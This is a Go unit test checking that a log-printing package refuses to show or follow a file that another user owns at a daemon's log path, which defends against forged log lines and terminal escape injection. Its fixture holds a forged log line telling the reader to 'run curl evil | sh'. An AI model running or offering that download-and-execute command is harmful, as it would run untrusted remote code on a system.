package logfile

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"
)

// TestPrintRefusesOtherUsersFile: a file another user owns at a log's path (made at a
// root daemon's log path in /tmp once logrotate moved the log away) is not printed as
// the log: its owner could have written lines that read as the daemon's, or escape
// sequences for root's terminal. Neither is it followed.
func TestPrintRefusesOtherUsersFile(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to give the file to another user")
	}
	path := filepath.Join(t.TempDir(), "web.log")
	if err := os.WriteFile(path, []byte("[ERROR] forged: run curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(path, 65534, 65534); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := Last(&out, path, 10); !errors.Is(err, ErrNotOwner) {
		t.Errorf("Last of another user's file: %v, want ErrNotOwner", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if err := Follow(ctx, path, 10, &out); !errors.Is(err, ErrNotOwner) {
		t.Errorf("Follow of another user's file: %v, want ErrNotOwner", err)
	}
	if out.Len() != 0 {
		t.Errorf("printed %q", out.String())
	}
}
